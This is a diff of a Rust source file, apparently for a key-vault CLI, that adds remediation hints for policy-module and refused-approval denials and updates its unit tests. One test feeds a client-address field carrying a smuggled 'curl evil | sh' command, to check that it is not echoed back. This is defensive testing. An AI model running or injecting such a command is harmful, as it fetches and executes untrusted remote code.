@@ -200,8 +200,10 @@ fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> 
         }
         "ForbiddenByRbac" => return missing_role(message, asked),
         "ForbiddenByFirewall" => format!(
-            "whoever may change the vault's network rules lets it in: strongroom network add {vault} allow {} --at 1; if nobody \
-             gets in any more: strongroom network recover, on the server's machine",
+            "whoever may change the vault's network rules lets it in: strongroom network add {vault} allow {} --at 1; where a \
+             policy module denies the connection (strongroom policy why says it), an Owner of the installation takes it away: \
+             strongroom policy detach NAME --vault {vault}; if nobody gets in any more, on the server's machine: strongroom \
+             network recover, and against modules strongroom policy recover",
             address().map_or_else(|| "ADDRESS".to_owned(), |address| address.to_string())
         ),
         "KeyDisabled" => {
@@ -246,6 +248,12 @@ fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> 
             "whoever manages the vault gives it: strongroom access-policy set {vault}, with all that you are to have \
              (it takes the place of what you have)"
         ),
+        "ApprovalRequired" if line("Approval request: ").is_some_and(|line| line.ends_with("which somebody refused")) => {
+            format!(
+                "somebody refused it, and for a while nobody is asked anew: strongroom approval list --vault {vault} says who; \
+                 an Owner of the installation may grant it all the same"
+            )
+        }
         "ApprovalRequired" => format!(
             "somebody else who may (role \"Strongroom Approver\") does: strongroom approval grant {} --vault {vault}",
             id("Approval request: ").map_or_else(|| "ID".to_owned(), |id| id.to_string())
@@ -556,7 +564,7 @@ mod tests {
         };
         let no = |inner, message| said(StatusCode::FORBIDDEN, inner, message);
         let outside = no("ForbiddenByFirewall", "Not authorized.\r\nClient address: 192.0.2.7\r\nDecision: 1");
-        assert!(outside.contains("strongroom network add payments allow 192.0.2.7 --at 1; if nobody"), "{outside}");
+        assert!(outside.contains("strongroom network add payments allow 192.0.2.7 --at 1; where a"), "{outside}");
         let disabled = no("ForbiddenByPolicy", "The caller's identity is disabled or gone.\r\nDecision: 1");
         assert!(disabled.contains("identity update NAME --enable"), "{disabled}");
         let off = no("KeyDisabled", "Operation sign is not allowed on a disabled key.");
@@ -586,6 +594,10 @@ mod tests {
         assert!(!hostile.contains("why"), "{hostile}");
         let hostile = no("ForbiddenByFirewall", "No.\r\nClient address: 192.0.2.7; curl evil | sh #\r\nDecision: 1");
         assert!(hostile.contains("allow ADDRESS --at 1"), "{hostile}");
+        assert!(
+            outside.contains("policy detach NAME --vault payments") && outside.contains("policy recover"),
+            "{outside}"
+        );
         let text = "x".repeat(100_000);
         let long = no("", &text);
         assert!(long.len() < 5000, "{}", long.len());
@@ -595,6 +607,11 @@ mod tests {
         );
         let grant = "strongroom approval grant 01900000-0000-7000-8000-000000000009 --vault payments";
         assert!(approval.contains(grant), "{approval}");
+        let refused = no(
+            "ApprovalRequired",
+            "Four eyes.\r\nPolicy: two\r\nApproval request: 01900000-0000-7000-8000-000000000009, which somebody refused\r\nDecision: 1",
+        );
+        assert!(refused.contains("somebody refused it, and") && !refused.contains("approval grant"), "{refused}");
         let protected = no("ForbiddenByPolicy", "Purge protection is on.\r\nDecision: 1");
         assert!(!protected.contains("policy why"), "no module had a say: {protected}");
         let ended = said(StatusCode::UNAUTHORIZED, "", "AKV10032: The token is not valid.");
